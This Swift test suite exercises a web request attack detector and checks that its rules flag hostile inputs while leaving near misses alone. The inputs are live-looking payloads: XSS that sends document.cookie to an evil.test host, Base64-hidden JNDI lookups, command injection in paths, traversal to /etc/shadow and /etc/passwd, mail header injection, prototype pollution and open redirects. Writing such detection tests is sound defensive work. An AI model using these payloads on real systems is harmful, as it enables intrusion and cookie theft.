import Testing

@testable import PalisadeDetect

/// The third round of external-corpus and holdout follow-ups (docs/DETECTION.md, "External
/// corpora" and "Blind holdout"): the rules that need the whole analyzer — a decoder (legacy
/// entities), the raw request path, the request's host — each with a near miss that must stay quiet.
/// The per-value rules have their lines in the corpus files ("External-corpus follow-up 3").
@Suite struct ExternalFollowUpTests {
    @Test func legacyEntitiesWithoutSemicolonAreDecoded() throws {
        let hit = try #require(
            RequestCorpus.strongest(#"[json] {"bio":"&ltsvg onload=alert(document.domain)&gt"}"#, .xss))
        #expect(hit.confidence >= 0.9)
        let script = try #require(
            RequestCorpus.strongest("[field:v] &ltscript&gtfetch('//evil.test/'+document.cookie)", .xss))
        #expect(script.confidence >= 0.9)
        // Prose with ampersands that start legacy names stays prose.
        #expect(!RequestCorpus.attack("[field:note] AT&T and Q&A &copyright &notice &ltd pricing"))
        #expect(!RequestCorpus.attack(#"[json] {"text":"3 &lt 5 &amp&amp 5 &gt 3"}"#))
    }

    @Test func rawPathIsReadWhole() throws {
        let command = try #require(RequestCorpus.strongest("[path] /api/v1/files/%0a/usr/bin/id%0a", .rce))
        #expect(command.confidence >= 0.8)
        #expect(command.location == "path")
        let markup = try #require(
            RequestCorpus.strongest(
                "[path] /api/v1/items/%3Cimg%20src=&%23x6A;&%23x61;vascript&%2358;alert(1)%3E", .xss))
        #expect(markup.confidence >= 0.85)
        // Matrix parameters and encoded spaces in ordinary paths.
        #expect(!RequestCorpus.attack("[path] /api/v1/files/report%20q3.pdf;version=2/download"))
        #expect(!RequestCorpus.attack("[path] /docs/a%2Fb/c%3Bd/%3Cnotes%3E"))
    }

    @Test func offsiteRedirectsAgainstTheRequestHost() throws {
        let offsite = try #require(
            RequestCorpus.strongest("[field:return_to] https://phish.test/signin", .openRedirect))
        #expect(offsite.rule == "open_redirect.offsite_url")
        #expect(offsite.confidence >= 0.6)
        let confusing = try #require(
            RequestCorpus.strongest("[field:next] https://api.example.com.phish.test/", .openRedirect))
        #expect(confusing.rule == "open_redirect.host_confusion")
        let inQuery = try #require(
            RequestCorpus.strongest("[field:goto] https://phish.test/?api.example.com", .openRedirect))
        #expect(inQuery.rule == "open_redirect.host_confusion")
        // The same site, its subdomains, OAuth's redirect_uri and CAS's service stay quiet.
        #expect(RequestCorpus.strongest("[field:next] https://www.example.com/home", .openRedirect) == nil)
        #expect(RequestCorpus.strongest("[field:next] https://api.example.com/v1/me", .openRedirect) == nil)
        #expect(RequestCorpus.strongest("[field:redirect_uri] https://client.test/callback", .openRedirect) == nil)
        #expect(RequestCorpus.strongest("[field:service] https://intranet.test/app", .openRedirect) == nil)
        // Without a request host (a value judged alone) a plain absolute URL is not evidence.
        #expect(
            OpenRedirectDetector.analyze(Array("https://phish.test/x".utf8)[...], fieldName: "next", source: .query)
                == nil)
        let explained = OpenRedirectDetector.explain(
            Array("https://phish.test/x".utf8)[...], fieldName: "next", requestHost: "api.example.com")
        #expect(explained.contains { $0.contains("off the request's site") })
    }

    @Test func base64LookupIsEvaluated() throws {
        // `${jndi:rmi://b64.evil.test/x}` in Base64.
        let hidden = Base64.encode(Array("${jndi:rmi://b64.evil.test/x}".utf8))
        let finding = try #require(JNDIDetector.analyze(Array("${base64:\(hidden)}".utf8)[...]))
        #expect(finding.confidence >= 0.9)
        #expect(finding.resource.hasPrefix("rmi://"))
        let harmless = Base64.encode(Array("hello world".utf8))
        #expect((JNDIDetector.analyze(Array("${base64:\(harmless)}".utf8)[...])?.confidence ?? 0) < 0.6)
    }

    @Test func encodedWordHidingAHeaderBreak() throws {
        let q = try #require(
            MailInjectionDetector.analyze(
                Array("=?UTF-8?Q?hello=0D=0ACc:_boss@victim.test?=".utf8)[...], fieldName: "subject"))
        #expect(q.rule == "mail_injection.encoded_word")
        #expect(q.confidence >= 0.6)
        let b64 = Base64.encode(Array("Hi\r\nBcc: all@victim.test".utf8))
        let b = try #require(MailInjectionDetector.analyze(Array("=?utf-8?B?\(b64)?=".utf8)[...], fieldName: "subject"))
        #expect(b.confidence >= 0.6)
        // An ordinary encoded word.
        #expect(
            MailInjectionDetector.analyze(Array("=?utf-8?Q?Caf=C3=A9_au_lait?=".utf8)[...], fieldName: "subject") == nil
        )
    }

    @Test func protoKeyThatSurvivesStripping() throws {
        let hit = try #require(RequestCorpus.strongest("[query] __pro__proto__to__[admin]=1", .prototypePollution))
        #expect(hit.rule == "prototype_pollution.filter_bypass")
        #expect(!RequestCorpus.attack("[query] my__proto__notes[x]=1"))
    }

    @Test func explainShowsTheNewReadings() {
        let noise = TraversalDetector.explain(Array(#"./\/./\/./etc/shadow"#.utf8)[...])
        #expect(noise.first?.contains("dot_slash_noise") == true)
        #expect(noise.contains { $0.hasPrefix("dot-slash noise before a system file") })
        let hex = TraversalDetector.explain(Array("..0x2f..0x2fetc/passwd".utf8)[...])
        #expect(hex.contains { $0.contains("encoded or look-alike separators") })
        let path = RCEDetector.explain(
            Array("/api/v1/items/%0a/bin/cat%20/etc/passwd".utf8)[...], source: .path, depth: 0)
        #expect(path.first?.hasPrefix("rce: rce.") == true)
        #expect(path.contains { $0.hasPrefix("raw path decoded once") })
        let component = XSSDetector.explain(
            Array(#"<?import namespace="a" implementation="//x.test/a.htc">"#.utf8)[...])
        #expect(component.contains { $0.contains("xss.html_component") })
        let mail = MailInjectionDetector.explain(Array("=?utf-8?Q?x=0ABcc:_a@b.test?=".utf8)[...], fieldName: "subject")
        #expect(mail.contains { $0.hasPrefix("RFC 2047 encoded word") })
    }
}
